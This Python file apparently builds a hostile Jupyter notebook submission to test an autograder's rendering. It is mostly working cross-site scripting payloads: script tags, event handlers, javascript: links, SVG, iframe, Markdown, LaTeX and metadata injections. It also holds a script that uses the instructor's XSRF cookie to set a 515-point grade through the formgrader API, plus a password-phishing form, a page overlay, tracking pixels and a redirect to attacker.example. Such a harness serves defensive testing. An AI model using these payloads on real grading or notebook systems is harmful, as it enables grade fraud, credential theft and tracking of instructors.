"""A submission that attacks whoever opens it: every way into a page that a notebook offers.

Each vector adds its name to `window.pwned` of the page it got into; the first of them also gives
itself 515 points through formgrader's own interface, with the instructor's cookie. OVERLAY covers
the page, FORM asks for a password, and addresses at ELSEWHERE tell the learner who looked, and when.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterable

import nbformat
from nbformat import NotebookNode

from autograder.grading.demo import untouched

ELSEWHERE = "https://attacker.example"
POINTS = 515

CHANGE_GRADES = f"""
(async () => {{
  const token = document.cookie.match(/_xsrf=([^;]*)/)[1];
  const grades = await (await fetch('/formgrader/api/grades?submission_id=' + submission_id)).json();
  for (const grade of grades)
    await fetch('/formgrader/api/grade/' + grade.id, {{method: 'PUT',
      headers: {{'X-XSRFToken': token, 'Content-Type': 'application/json'}},
      body: JSON.stringify({{manual_score: {POINTS}, extra_credit: 0}})}});
}})()
"""


def says(name: str) -> str:
    """JavaScript that leaves `name` in the page, without quotes of any kind."""
    return f"(window.top.pwned=window.top.pwned||[]).push(/{name}/.source)"


OVERLAY = '<div style="position:fixed;inset:0;z-index:9999;background:white">All is well.</div>'
FORM = f'<form action="{ELSEWHERE}/login"><input name="password"><button>Sign in</button></form>'
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{says("svg")}"><script>{says("svg")}</script></svg>'

HTML_VECTORS = {
    "script": f"<script>{says('script')}; {CHANGE_GRADES}</script>",
    "event": f'<img src="missing" onerror="{says("event")}">',
    "link": f'<a class="bait" href="javascript:{says("link")}">my plot</a>',
    "entity-link": f'<a class="bait" href="java&#09;script:{says("entity-link")}">my table</a>',
    "frame": f'<iframe srcdoc="<script>{says("frame")}</script>"></iframe>',
    "frame-link": f'<iframe src="javascript:{says("frame-link")}"></iframe>',
    "object": f'<object data="data:text/html,<script>{says("object")}</script>"></object>',
    "details": f'<details open ontoggle="{says("details")}"><summary>more</summary></details>',
    "focus": f'<input autofocus onfocus="{says("focus")}">',
    "animation": '<style>@keyframes x{}</style>'
    f'<b style="animation:x 1s" onanimationstart="{says("animation")}">b</b>',
    "overlay": OVERLAY,
    "form": FORM,
    "pixel": f'<img src="{ELSEWHERE}/pixel.png">',
    "sheet": f'<link rel="stylesheet" href="{ELSEWHERE}/sheet.css">',
    "style": f"<style>body{{background:url({ELSEWHERE}/style.png)}}</style>",
}  # fmt: skip

# These leave elements open and swallow what comes after them.
UNCLOSED_VECTORS = {
    "broken-out-event": f'<svg><style><img src="missing" onerror="{says("broken-out-event")}">',
    "math": f'<math><mtext><table><mglyph><style><img src="missing" onerror="{says("math")}">',
}  # fmt: skip

MARKDOWN_VECTORS = {
    "markdown-script": f"Hello <script>{says('markdown-script')}</script>",
    "markdown-event": f'# Title\n\n<img src="missing" onerror="{says("markdown-event")}">',
    "markdown-link": f"[my source](javascript:{says('markdown-link')})",
    "markdown-entity-link": f"[my notes](&#106;avascript:{says('markdown-entity-link')})",
    "markdown-mermaid": f'```mermaid\n</pre><img src="missing" onerror="{says("markdown-mermaid")}">\n```',
    "markdown-pixel": f"![a plot]({ELSEWHERE}/markdown.png)",
    "markdown-formula": r"$\href{javascript:alert(1)}{x}$ $\text{<img src='y' onerror='"
    + says("markdown-formula")
    + r"'/>}$",
    "markdown-attribute": f'<a title="`" href="`" onmouseover="{says("markdown-attribute")}">`</a>',
}  # fmt: skip

REFRESH = f'<meta http-equiv="refresh" content="2;url={ELSEWHERE}/refresh">'


def hostile(released: NotebookNode, lesson: NotebookNode) -> NotebookNode:
    """The lesson as it was handed out, with every vector in it."""
    notebook = untouched(released, lesson)
    v4 = nbformat.v4
    notebook.cells.append(_showing(HTML_VECTORS.values()))
    notebook.cells.append(v4.new_code_cell(_other_kinds_of_output()))
    for text in MARKDOWN_VECTORS.values():
        notebook.cells.append(v4.new_markdown_cell(text))
    notebook.cells.append(_attached_svg())
    raw = v4.new_raw_cell(f"<script>{says('raw')}</script>")
    raw.metadata = NotebookNode(raw_mimetype="text/html", format="text/html")
    notebook.cells.append(raw)
    tagged = v4.new_code_cell("'tagged'")
    tagged.metadata = NotebookNode(
        tags=[f'"><script>{says("tag")}</script>'],
        magics_language=f'"><script>{says("language")}</script>',
    )
    notebook.cells.append(tagged)
    notebook.metadata.update(
        title=f"</title><script>{says('title')}</script>",
        language_info={
            "name": f'x"><script>{says("lexer")}</script>',
            "pygments_lexer": f'x"><script>{says("lexer")}</script>',
        },
        widgets={
            "application/vnd.jupyter.widget-state+json": {
                "version_major": 2,
                "version_minor": 0,
                "state": {"1": {"text": f"</script><script>{says('widgets')}</script>"}},
            }
        },
    )
    notebook.cells.append(_showing([REFRESH]))
    notebook.cells.append(_showing(UNCLOSED_VECTORS.values()))
    return notebook


def _showing(pieces: Iterable[str]) -> NotebookNode:
    """A cell whose outputs are these pieces of HTML."""
    lines = [f"display({{'text/html': {html!r}}}, raw=True)" for html in pieces]
    return nbformat.v4.new_code_cell("\n".join(lines))


def _other_kinds_of_output() -> str:
    """Code that shows something in every kind a page may run or load."""
    bundles: list[tuple[dict, dict]] = [
        ({"application/javascript": says("javascript")}, {}),
        ({"image/svg+xml": SVG}, {}),
        ({"text/markdown": f"<script>{says('output-markdown')}</script>"}, {}),
        ({"text/latex": f"<script>{says('output-latex')}</script>"}, {}),
        ({"text/html": f"<script>{says('isolated')}</script>"}, {"text/html": {"isolated": True}}),
        ({"image/png": f'" onerror="{says("png")}'}, {}),
        ({"image/png": "iVBORw0K"}, {"image/png": {"width": f"1 onerror={says('width')}"}}),
        ({"application/vnd.jupyter.widget-view+json": {"model_id": "1"}, "text/plain": "w"}, {}),
    ]  # fmt: skip
    lines = [f"display({data!r}, metadata={metadata!r}, raw=True)" for data, metadata in bundles]
    return "\n".join([*lines, f"print('<script>{says('print')}</script>')"])


def _attached_svg() -> NotebookNode:
    cell = nbformat.v4.new_markdown_cell("![a plot](attachment:plot.svg)")
    encoded = base64.b64encode(SVG.encode()).decode()
    cell.attachments = {"plot.svg": {"image/svg+xml": encoded}}
    return json.loads(json.dumps(cell), object_hook=NotebookNode)
